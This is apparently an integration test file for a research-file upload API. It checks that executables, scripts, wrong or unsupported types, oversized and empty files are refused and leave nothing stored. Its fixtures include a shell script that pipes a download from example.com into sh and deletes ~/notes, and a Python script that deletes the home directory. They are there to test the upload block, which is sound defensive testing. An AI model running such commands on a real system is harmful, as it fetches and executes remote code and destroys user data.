/**
 * Uploading research files (spec 01 `POST /api/research/upload`, "Supported upload content", Errors, Limits;
 * DESIGN.md section 5 and docs/decisions.md: `POST /api/research/upload-url`, validation error codes).
 *
 * - Refused multipart uploads answer the decided status and code and leave nothing stored: no source item and no
 *   usage count in the workspace partition (DynamoDB Local, read directly), no object under `workspaces/<ws>/`.
 * - The multipart route stops at MULTIPART_MAX_BYTES (413); the same file goes through upload-url.
 * - upload-url: a presigned POST the client really posts to (the local object store), whose S3 event runs the
 *   same validation; refused bytes end `failed` with the reason and the object deleted; what can be refused
 *   without the bytes is refused up front.
 */
import { ListObjectsV2Command } from "@aws-sdk/client-s3";
import { beforeAll, describe, expect, it } from "vitest";
import { s3Client } from "../../core/storage/client";
import { Config } from "../../core/config";
import { MAX_UPLOAD_BYTES, MULTIPART_MAX_BYTES } from "../../core/research/schema";
import { call, newUser, newWorkspace } from "../support/api";
import { multipart, realFile, uploadResearch, waitFor } from "../support/multipart";
import { bodyLimitOf } from "../../functions/lib/route";
import { expectEnvelope, partitionItems } from "./_helpers";

// ---- helpers ----

const upload = uploadResearch;

const settled = (token: string, id: string) =>
  waitFor(async () => {
    const res = await call("GET", `/api/research/sources/${id}`, { token });
    return res.body.processing_status !== "pending" ? res.body : undefined;
  }, 90_000);

async function bucketKeys(prefix: string): Promise<string[]> {
  const out = await (await s3Client()).send(new ListObjectsV2Command({ Bucket: Config.bucketName(), Prefix: prefix }));
  return (out.Contents ?? []).map((o) => o.Key!);
}

async function stored(workspaceId: string) {
  const items = await partitionItems(`ws#${workspaceId}`);
  return {
    sources: items.filter((i) => String(i.sk).startsWith("source#")),
    counted: (items.find((i) => i.sk === "usage")?.research_sources as number | undefined) ?? 0,
    objects: await bucketKeys(`workspaces/${workspaceId}/`),
  };
}

/** Nothing of an upload is left: no source item, no usage count, no object under the workspace's prefix. */
async function expectNothingStored(workspaceId: string) {
  expect(await stored(workspaceId)).toEqual({ sources: [], counted: 0, objects: [] });
}

/** POST a file to a presigned S3 POST, as a browser form would: the policy's fields first, then the file. */
async function postToPresigned(upload: { url: string; fields: Record<string, string> }, file: { name: string; data: Buffer }, type: string) {
  const form = new FormData();
  for (const [k, v] of Object.entries(upload.fields)) form.append(k, v);
  form.append("file", new Blob([new Uint8Array(file.data)], { type }), file.name);
  return fetch(upload.url, { method: "POST", body: form });
}

const uploadUrl = (token: string, body: Record<string, unknown>) => call("POST", "/api/research/upload-url", { token, body });

/** A DOS/PE executable header ("MZ", then binary) and an ELF header. */
const PE = Buffer.concat([
  Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00, 0xb8]),
  Buffer.alloc(43),
  Buffer.from([0x80, 0x00, 0x00, 0x00]),
  Buffer.from("\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$", "latin1"),
  Buffer.alloc(64),
  Buffer.from("PE\0\0", "latin1"),
  Buffer.alloc(256),
]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(8), Buffer.from([0x02, 0x00, 0x3e, 0x00]), Buffer.alloc(300)]);
const SHELL = Buffer.from("#!/bin/sh\ncurl -s https://example.com/x | sh\nrm -rf ~/notes\n");
const PYTHON = Buffer.from("import os\nimport subprocess\n\nsubprocess.run(['rm', '-rf', os.path.expanduser('~')])\n");

/** Plain text of exactly `size` bytes, in paragraphs. */
function notesOfSize(size: number): Buffer {
  const paragraph = "Participant 7 said the export dialog hides the CSV option behind a menu they never open. ".repeat(90) + "\n\n";
  return Buffer.from(paragraph.repeat(Math.ceil(size / paragraph.length)).slice(0, size));
}

// ---- multipart refusals ----

describe("POST /api/research/upload refuses what it must, and stores nothing", () => {
  let owner: { token: string };
  let workspaceId: string;
  let pdf: Buffer;

  beforeAll(async () => {
    const ws = await newWorkspace();
    owner = ws.owner;
    workspaceId = ws.workspace.id;
    pdf = (await realFile("jupyter/docs/jupyter-org-redesign-heuristic-eval-competitive-analysis.pdf")).data;
  });

  const cases: { what: string; file: () => { name: string; data: Buffer }; type: string; status: number; code: string; detail: RegExp }[] = [
    { what: "a Windows executable renamed .pdf", file: () => ({ name: "report.pdf", data: PE }), type: "application/pdf", status: 400, code: "BLOCKED_FILE_TYPE", detail: /Windows\/DOS executable/ },
    { what: "an ELF executable renamed .pdf", file: () => ({ name: "report.pdf", data: ELF }), type: "application/pdf", status: 400, code: "BLOCKED_FILE_TYPE", detail: /ELF/ },
    { what: "an executable sent as octet-stream with an .exe name", file: () => ({ name: "setup.exe", data: PE }), type: "application/octet-stream", status: 400, code: "BLOCKED_FILE_TYPE", detail: /\.exe/ },
    { what: "a PDF declared as image/png", file: () => ({ name: "scan.png", data: pdf }), type: "image/png", status: 400, code: "FILE_TYPE_MISMATCH", detail: /image\/png.*PDF/ },
    { what: "an empty file", file: () => ({ name: "empty.txt", data: Buffer.alloc(0) }), type: "text/plain", status: 400, code: "EMPTY_FILE", detail: /empty/ },
    { what: "a shell script with a .txt name", file: () => ({ name: "notes.txt", data: SHELL }), type: "text/plain", status: 400, code: "BLOCKED_FILE_TYPE", detail: /#!/ },
    { what: "a Python script", file: () => ({ name: "analysis.py", data: PYTHON }), type: "text/x-python", status: 400, code: "BLOCKED_FILE_TYPE", detail: /\.py/ },
    { what: "a Python script declared as text/plain", file: () => ({ name: "analysis.py", data: PYTHON }), type: "text/plain", status: 400, code: "BLOCKED_FILE_TYPE", detail: /\.py/ },
    { what: "a GIF (unsupported image format)", file: () => ({ name: "chart.gif", data: Buffer.concat([Buffer.from("GIF89a"), Buffer.from([1, 0, 1, 0, 0x80, 0, 0]), Buffer.alloc(32)]) }), type: "image/gif", status: 415, code: "UNSUPPORTED_MEDIA_TYPE", detail: /image\/gif/ },
    { what: "JSON declared as application/json that is not JSON", file: () => ({ name: "tickets.json", data: Buffer.from("ticket 1: login fails\n") }), type: "application/json", status: 400, code: "FILE_TYPE_MISMATCH", detail: /not JSON/ },
  ];

  it.each(cases)("$what: $status $code", async ({ file, type, status, code, detail }) => {
    const res = await upload(owner.token, workspaceId, file(), type);
    expectEnvelope(res, status, code);
    expect(res.body.detail).toMatch(detail);
    await expectNothingStored(workspaceId);
  });

  it("a request without the file part, or with an empty title, is a 422 validation error", async () => {
    const noFile = await multipart({ workspace_id: workspaceId, source_type: "interview", title: "x" });
    expectEnvelope(await call("POST", "/api/research/upload", { token: owner.token, raw: noFile }), 422, "VALIDATION_ERROR");
    const noTitle = await multipart({ workspace_id: workspaceId, source_type: "interview", title: " " }, { name: "a.txt", type: "text/plain", data: Buffer.from("hello") });
    const res = await call("POST", "/api/research/upload", { token: owner.token, raw: noTitle });
    expectEnvelope(res, 422, "VALIDATION_ERROR");
    expect(res.body.errors.map((e: { loc: string[] }) => e.loc.join("."))).toContain("body.title");
    const badType = await multipart({ workspace_id: workspaceId, source_type: "podcast", title: "x" }, { name: "a.txt", type: "text/plain", data: Buffer.from("hello") });
    expectEnvelope(await call("POST", "/api/research/upload", { token: owner.token, raw: badType }), 422, "VALIDATION_ERROR");
    await expectNothingStored(workspaceId);
  });

  it("a file name over 255 characters is a 422 at body.file.filename (as upload-url's file_name), not a 500 on the item's size", async () => {
    const long = await multipart({ workspace_id: workspaceId, source_type: "interview", title: "x" }, { name: `${"n".repeat(500_000)}.txt`, type: "text/plain", data: Buffer.from("hello") });
    const res = await call("POST", "/api/research/upload", { token: owner.token, raw: long });
    expectEnvelope(res, 422, "VALIDATION_ERROR");
    expect(res.body.errors.map((e: { loc: string[] }) => e.loc.join("."))).toContain("body.file.filename");
    await expectNothingStored(workspaceId);
  });

  it("without a token it is 401, for a non-member 403, for an unknown workspace the same 403 — nothing stored", async () => {
    const file = { name: "a.md", data: Buffer.from("# Notes\n\nHello.\n") };
    const anonymous = await call("POST", "/api/research/upload", {
      raw: await multipart({ workspace_id: workspaceId, source_type: "interview", title: "a" }, { ...file, type: "text/markdown" }),
    });
    expect(anonymous.status).toBe(401);
    const stranger = await newUser();
    expectEnvelope(await upload(stranger.token, workspaceId, file, "text/markdown"), 403, "FORBIDDEN");
    expectEnvelope(await upload(owner.token, "00000000-0000-4000-8000-000000000000", file, "text/markdown"), 403, "FORBIDDEN");
    await expectNothingStored(workspaceId);
  });
});

describe("file names", () => {
  it("names with spaces, non-ASCII, % and + are kept as file_name, stored under a safe key, and processed", async () => {
    const { owner, workspace } = await newWorkspace();
    const names = ["Interview – Café notes (v2).md", "a+b 100%.md"];
    const created = [];
    for (const name of names) {
      const res = await upload(owner.token, workspace.id, { name, data: Buffer.from("# Notes\n\nSearch is hard to find.\n") }, "text/markdown");
      expect(res.status, res.text).toBe(201);
      expect(res.body.file_name).toBe(name);
      expect(res.body.file_url).toMatch(/\/original\/[\w.\- ]+$/);
      created.push(res.body);
    }
    for (const source of created) {
      const done = await settled(owner.token, source.id);
      expect(done.processing_status, done.processing_error).toBe("completed");
      expect(done.extracted_text).toContain("Search is hard to find.");
    }
  });
});

describe("a file name sent only in RFC 5987 form (filename*=UTF-8''…)", () => {
  /** A form as a client that encodes non-ASCII names per RFC 5987 writes it: the file part's disposition is `disposition`. */
  const formWith = (workspaceId: string, disposition: string, content: string) => {
    const part = (headers: string, body: string) => `--b0undary\r\n${headers}\r\n\r\n${body}\r\n`;
    return {
      contentType: "multipart/form-data; boundary=b0undary",
      data: Buffer.from(
        part(`Content-Disposition: form-data; name="workspace_id"`, workspaceId) +
          part(`Content-Disposition: form-data; name="source_type"`, "interview") +
          part(`Content-Disposition: form-data; name="title"`, "Résumé notes") +
          part(`Content-Disposition: form-data; name="file"; ${disposition}\r\nContent-Type: text/plain`, content) +
          "--b0undary--\r\n",
      ),
    };
  };

  it("is read as the decoded name (alone, or next to a plain filename, which it overrides); a part's content is never rewritten", async () => {
    const { owner, workspace } = await newWorkspace();
    // Content that looks like a part header with filename*: it must arrive byte for byte.
    const content = "Notes.\r\nContent-Disposition: form-data; name=\"file\"; filename*=UTF-8''other.txt\r\n\r\nThe export dialog hides the CSV option.\n";
    for (const disposition of [`filename*=UTF-8''r%C3%A9sum%C3%A9.txt`, `filename="resume.txt"; filename*=utf-8'fr'r%C3%A9sum%C3%A9.txt`]) {
      const res = await call("POST", "/api/research/upload", { token: owner.token, raw: formWith(workspace.id, disposition, content) });
      expect(res.status, res.text).toBe(201);
      expect(res.body.file_name).toBe("résumé.txt");
      expect(res.body.title).toBe("Résumé notes");
      expect(res.body.file_size_bytes).toBe(Buffer.byteLength(content));
    }
  });
});

// ---- the multipart size limit ----

describe("the multipart limit (MULTIPART_MAX_BYTES): larger files go through upload-url", () => {
  it(`a file of MULTIPART_MAX_BYTES + 1 is 413 and stores nothing; up to the limit is accepted; the larger file completes through upload-url`, async () => {
    const { owner, workspace } = await newWorkspace();
    const big = { name: "long-notes.txt", data: notesOfSize(MULTIPART_MAX_BYTES + 1) };

    const refused = await upload(owner.token, workspace.id, big, "text/plain");
    expectEnvelope(refused, 413, "PAYLOAD_TOO_LARGE");
    expect(refused.body.detail).toMatch(/upload-url/);
    // Within the request's limit (the file's plus the form's framing), so refused by the upload itself: the same
    // envelope as the HTTP stack's 413, with the limit the file passed.
    expect(big.data.length).toBeLessThan(bodyLimitOf({ bodyType: "multipart" }));
    expect(refused.body.limit_bytes).toBe(MULTIPART_MAX_BYTES);
    await expectNothingStored(workspace.id);

    const atLimit = await upload(owner.token, workspace.id, { name: "at-limit.txt", data: notesOfSize(MULTIPART_MAX_BYTES) }, "text/plain");
    expect(atLimit.status, atLimit.text).toBe(201);
    expect(atLimit.body.file_size_bytes).toBe(MULTIPART_MAX_BYTES);

    const presign = await uploadUrl(owner.token, {
      workspace_id: workspace.id, source_type: "interview", title: "Long notes", file_name: big.name, content_type: "text/plain", file_size_bytes: big.data.length,
    });
    expect(presign.status, presign.text).toBe(201);
    const posted = await postToPresigned(presign.body.upload, big, "text/plain");
    expect(posted.status).toBe(204);
    const done = await settled(owner.token, presign.body.source.id);
    expect(done.processing_status, done.processing_error).toBe("completed");
    expect(done.extracted_text.length).toBeGreaterThan(MULTIPART_MAX_BYTES - 10_000);
    expect(done.extracted_text).toContain("Participant 7 said the export dialog hides the CSV option");
    expect((await settled(owner.token, atLimit.body.id)).processing_status).toBe("completed");
  });
});

// ---- presigned uploads ----

describe("POST /api/research/upload-url", () => {
  it("returns a presigned POST pinned to the key, type and size; posting the file to it completes the source", async () => {
    const { owner, workspace } = await newWorkspace();
    const docx = await realFile("jupyter/docs/JupyterDay-code-of-conduct.docx");
    const type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    const res = await uploadUrl(owner.token, {
      workspace_id: workspace.id, source_type: "other", title: "Code of conduct", file_name: docx.name, content_type: type, file_size_bytes: docx.data.length,
    });
    expect(res.status, res.text).toBe(201);
    const { source, upload } = res.body;
    expect(source).toMatchObject({ processing_status: "pending", file_type: type, file_size_bytes: docx.data.length, file_name: docx.name, title: "Code of conduct" });
    expect(upload.url).toMatch(new RegExp(`/${Config.bucketName()}$`));
    expect(upload.max_bytes).toBe(docx.data.length);
    expect(Date.parse(upload.expires_at)).toBeGreaterThan(Date.now());
    expect(source.file_url).toBe(upload.fields.key);
    expect(source.file_url).not.toContain(Config.bucketName());
    expect(upload.fields.key).toMatch(new RegExp(`^workspaces/${workspace.id}/sources/${source.id}/original/`));
    expect(upload.fields["Content-Type"]).toBe(type);
    const policy = JSON.parse(Buffer.from(upload.fields.Policy, "base64").toString("utf8"));
    expect(policy.conditions).toEqual(
      expect.arrayContaining([["content-length-range", 1, docx.data.length], ["eq", "$Content-Type", type], { key: upload.fields.key }]),
    );
    // Before the file arrives, the source is pending, counted, and has no text.
    const before = await call("GET", `/api/research/sources/${source.id}`, { token: owner.token });
    expect(before.body).toMatchObject({ processing_status: "pending", extracted_text: null, transcript: null });

    const posted = await postToPresigned(upload, docx, type);
    expect(posted.status).toBe(204);
    const done = await settled(owner.token, source.id);
    expect(done.processing_status, done.processing_error).toBe("completed");
    expect(done.extracted_text).toContain("JupyterDay Code of Conduct");
  });

  const refusedOnArrival = [
    { what: "a PNG posted for a declared PDF", name: "report.pdf", type: "application/pdf", data: async () => (await realFile("jupyter/images/jupyterlab-autosave-settings.png")).data, reason: /declared as application\/pdf but its content is PNG image/ },
    { what: "a shell script posted for a declared text file", name: "notes.txt", type: "text/plain", data: async () => SHELL, reason: /Executable and script files are not accepted/ },
  ];

  it.each(refusedOnArrival)("$what ends failed with the reason, its object deleted", async ({ name, type, data, reason }) => {
    const { owner, workspace } = await newWorkspace();
    const bytes = await data();
    const res = await uploadUrl(owner.token, { workspace_id: workspace.id, source_type: "other", title: name, file_name: name, content_type: type, file_size_bytes: bytes.length });
    expect(res.status, res.text).toBe(201);
    expect((await postToPresigned(res.body.upload, { name, data: bytes }, type)).status).toBe(204);
    const failed = await settled(owner.token, res.body.source.id);
    expect(failed.processing_status).toBe("failed");
    expect(failed.processing_error).toMatch(reason);
    expect(failed.extracted_text).toBeNull();
    expect(await bucketKeys(`workspaces/${workspace.id}/`)).toEqual([]);
  });

  it("after a refused presigned upload, posting the right file and reprocessing completes the source (failed -> pending -> completed)", async () => {
    const { owner, workspace } = await newWorkspace();
    const pdf = await realFile("jupyter/docs/jupyter-org-redesign-heuristic-eval-competitive-analysis.pdf");
    const res = await uploadUrl(owner.token, { workspace_id: workspace.id, source_type: "other", title: "Report", file_name: pdf.name, content_type: "application/pdf", file_size_bytes: pdf.data.length });
    const { source, upload } = res.body;
    await postToPresigned(upload, { name: pdf.name, data: Buffer.from("not a pdf at all\n") }, "application/pdf");
    expect((await settled(owner.token, source.id)).processing_status).toBe("failed");

    // The same presigned POST is still valid; a failed source is not restarted by the arriving object alone.
    expect((await postToPresigned(upload, pdf, "application/pdf")).status).toBe(204);
    await waitFor(async () => (await bucketKeys(upload.fields.key)).length === 1);
    expect((await call("GET", `/api/research/sources/${source.id}`, { token: owner.token })).body.processing_status).toBe("failed");

    const again = await call("POST", `/api/research/sources/${source.id}/reprocess`, { token: owner.token });
    expect(again.status, again.text).toBe(200);
    expect(again.body).toMatchObject({ processing_status: "pending", processing_error: null });
    const done = await settled(owner.token, source.id);
    expect(done.processing_status, done.processing_error).toBe("completed");
    expect(done.pages).toBe(15);
  });

  it("reprocess before the presigned file arrives leaves the source pending and starts nothing; the file that then arrives completes it", async () => {
    const { owner, workspace } = await newWorkspace();
    const file = { name: "early.md", data: Buffer.from("# Early\n\nReprocessed before it was uploaded.\n") };
    const res = await uploadUrl(owner.token, { workspace_id: workspace.id, source_type: "interview", title: "Early", file_name: file.name, content_type: "text/markdown", file_size_bytes: file.data.length });
    expect(res.status, res.text).toBe(201);
    const { source, upload } = res.body;
    const early = await call("POST", `/api/research/sources/${source.id}/reprocess`, { token: owner.token });
    expect(early.status, early.text).toBe(200);
    expect(early.body).toMatchObject({ id: source.id, processing_status: "pending", processing_error: null });
    // Nothing started: an extraction now would have failed the source for its missing file.
    await new Promise((r) => setTimeout(r, 1_500));
    expect((await call("GET", `/api/research/sources/${source.id}`, { token: owner.token })).body).toMatchObject({ processing_status: "pending", processing_error: null });

    expect((await postToPresigned(upload, file, "text/markdown")).status).toBe(204);
    const done = await settled(owner.token, source.id);
    expect(done.processing_status, done.processing_error).toBe("completed");
    expect(done.extracted_text).toContain("Reprocessed before it was uploaded.");
  });

  it("a file that arrives for a source deleted meanwhile is removed from the bucket", async () => {
    const { owner, workspace } = await newWorkspace();
    const file = { name: "late.md", data: Buffer.from("# Late\n\nArrived after the source was deleted.\n") };
    const res = await uploadUrl(owner.token, { workspace_id: workspace.id, source_type: "interview", title: "Late", file_name: file.name, content_type: "text/markdown", file_size_bytes: file.data.length });
    expect((await call("DELETE", `/api/research/sources/${res.body.source.id}`, { token: owner.token })).status).toBe(204);
    expect((await postToPresigned(res.body.upload, file, "text/markdown")).status).toBe(204);
    await waitFor(async () => (await bucketKeys(`workspaces/${workspace.id}/`)).length === 0);
    await expectNothingStored(workspace.id);
  });

  const refusedUpFront = [
    { what: "an .exe name", file_name: "setup.exe", content_type: "application/octet-stream", size: 1000, status: 400, code: "BLOCKED_FILE_TYPE" },
    { what: "a .sh name declared as text", file_name: "deploy.sh", content_type: "text/plain", size: 1000, status: 400, code: "BLOCKED_FILE_TYPE" },
    { what: "a script type under a .txt name", file_name: "notes.txt", content_type: "application/x-sh", size: 1000, status: 400, code: "BLOCKED_FILE_TYPE" },
    { what: "a Python script", file_name: "analysis.py", content_type: "text/x-python", size: 1000, status: 400, code: "BLOCKED_FILE_TYPE" },
    { what: "an unsupported type", file_name: "chart.gif", content_type: "image/gif", size: 1000, status: 415, code: "UNSUPPORTED_MEDIA_TYPE" },
    // Names and types that are members of every plain object: no lookup may find Object's own.
    { what: "a .constructor name", file_name: "notes.constructor", content_type: "application/octet-stream", size: 1000, status: 415, code: "UNSUPPORTED_MEDIA_TYPE" },
    { what: "a .__proto__ name", file_name: "notes.__proto__", content_type: "application/octet-stream", size: 1000, status: 415, code: "UNSUPPORTED_MEDIA_TYPE" },
    { what: "a constructor type", file_name: "notes", content_type: "constructor", size: 1000, status: 415, code: "UNSUPPORTED_MEDIA_TYPE" },
    { what: "a file over 100 MB", file_name: "session.mp4", content_type: "video/mp4", size: MAX_UPLOAD_BYTES + 1, status: 413, code: "PAYLOAD_TOO_LARGE" },
    { what: "an empty file", file_name: "empty.txt", content_type: "text/plain", size: 0, status: 400, code: "EMPTY_FILE" },
  ];

  it.each(refusedUpFront)("refuses $what up front: $status $code, nothing stored", async ({ file_name, content_type, size, status, code }) => {
    const { owner, workspace } = await newWorkspace();
    const res = await uploadUrl(owner.token, { workspace_id: workspace.id, source_type: "other", title: file_name, file_name, content_type, file_size_bytes: size });
    expectEnvelope(res, status, code);
    await expectNothingStored(workspace.id);
  });

  it("accepts exactly 100 MB; rejects unknown fields, and non-members", async () => {
    const { owner, workspace } = await newWorkspace();
    const body = { workspace_id: workspace.id, source_type: "interview", title: "Session", file_name: "session.mp4", content_type: "video/mp4", file_size_bytes: MAX_UPLOAD_BYTES };
    const ok = await uploadUrl(owner.token, body);
    expect(ok.status, ok.text).toBe(201);
    expect(ok.body.upload.max_bytes).toBe(MAX_UPLOAD_BYTES);
    expect(ok.body.source.file_type).toBe("video/mp4");
    expectEnvelope(await uploadUrl(owner.token, { ...body, extra: true }), 422, "VALIDATION_ERROR");
    const stranger = await newUser();
    expectEnvelope(await uploadUrl(stranger.token, body), 403, "FORBIDDEN");
    expect((await stored(workspace.id)).sources).toHaveLength(1);
  });
});
